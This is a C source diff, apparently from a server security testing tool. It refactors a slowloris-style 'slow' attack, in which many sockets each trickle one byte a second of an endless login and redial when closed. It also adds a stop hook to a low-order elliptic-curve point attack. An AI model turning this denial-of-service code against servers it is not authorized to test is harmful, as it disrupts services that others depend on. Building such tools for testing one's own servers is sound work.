@@ -1,6 +1,4 @@
 /* Attacks on the server itself, without a victim. */
-#include <poll.h>
-
 #include "../crypto/random.h"
 #include "classic.h"
 #include "enhanced.h"
@@ -62,6 +60,7 @@ static int offer_point(const struct mitm *m, const uint8_t *point, bool *won, st
 		conn_dial(&c, m->host, m->port, e) != 0) {
 		return -1;
 	}
+	c.stop_fd = m->stop_fd;
 	conn_deadline(&c, 10000);
 	tell_said(m, MITM_AC, bytes, sizeof bytes, "message 1 with a point of low order, and 3");
 	if (conn_write(&c, bytes, sizeof bytes, e) == 0) {
@@ -91,26 +90,32 @@ int mitm_low_order_strike(const struct mitm *m, struct err *e)
 
 /* --- slow --- */
 
-/* As many connections as there are sockets; each says a byte a second of a login that never
- * ends. What the server closes is called again. */
-static unsigned drip(const struct mitm *m, struct conn *conns, unsigned n, unsigned second)
+struct drip {
+	struct conn conn;
+	unsigned said; /* bytes of a login that never ends */
+};
+
+/* The next byte of each connection; what the server has closed is called again. */
+static unsigned drip(const struct mitm *m, struct drip *drips, unsigned n)
 {
 	static const uint8_t byte;
 	struct err ignored;
 	unsigned alive = 0;
 
-	for (unsigned i = 0; i < n; i++) {
+	for (unsigned i = 0; i < n && !mitm_is_stopping(m, 0); i++) {
+		struct drip *d = &drips[i];
 		const uint8_t *say = &byte;
-		if (m->enhanced && second < ENHANCED_PREFACE_BYTES) {
-			say = (const uint8_t *)ENHANCED_PREFACE + second;
+		if (d->conn.fd < 0 && conn_dial(&d->conn, m->host, m->port, &ignored) == 0) {
+			d->said = 0;
 		}
-		if (conns[i].fd >= 0 && conn_write(&conns[i], say, 1, &ignored) != 0) {
-			conn_close(&conns[i]);
+		if (m->enhanced && d->said < ENHANCED_PREFACE_BYTES) {
+			say = (const uint8_t *)ENHANCED_PREFACE + d->said;
 		}
-		if (conns[i].fd < 0 && second == 0) {
-			(void)conn_dial(&conns[i], m->host, m->port, &ignored);
+		if (d->conn.fd >= 0 && conn_write(&d->conn, say, 1, &ignored) != 0) {
+			conn_close(&d->conn);
 		}
-		alive += conns[i].fd >= 0 ? 1 : 0;
+		d->said++;
+		alive += d->conn.fd >= 0 ? 1 : 0;
 	}
 	return alive;
 }
@@ -118,27 +123,28 @@ static unsigned drip(const struct mitm *m, struct conn *conns, unsigned n, unsig
 int mitm_slow(const struct mitm *m, struct err *e)
 {
 	unsigned n = m->sockets == 0 ? MITM_SOCKETS : m->sockets, alive = 0;
-	struct conn *conns = calloc(n, sizeof *conns);
-	pid_t parent = getppid();
+	struct drip *drips = calloc(n, sizeof *drips);
 	char text[100];
 
-	if (conns == NULL) {
+	if (drips == NULL) {
 		return err_set(e, EX_TEMPFAIL, "out of memory");
 	}
 	for (unsigned i = 0; i < n; i++) {
-		conns[i].fd = -1;
+		drips[i].conn.fd = -1;
 	}
-	for (unsigned s = 0; (m->seconds == 0 || s < m->seconds) && getppid() == parent; s++) {
-		alive = drip(m, conns, n, s);
+	for (unsigned s = 0; m->seconds == 0 || s < m->seconds; s++) {
+		alive = drip(m, drips, n);
 		(void)snprintf(text, sizeof text, "%u of %u slow connections are open", alive, n);
 		tell_said(m, MITM_AC, "", 0, text);
-		(void)poll(NULL, 0, 1000);
+		if (mitm_is_stopping(m, 1000)) {
+			break;
+		}
 	}
 	(void)snprintf(text, sizeof text, "%u of %u slow connections were left", alive, n);
 	tell(m, "slow", false, text);
 	for (unsigned i = 0; i < n; i++) {
-		conn_close(&conns[i]);
+		conn_close(&drips[i].conn);
 	}
-	free(conns);
+	free(drips);
 	return 0;
 }
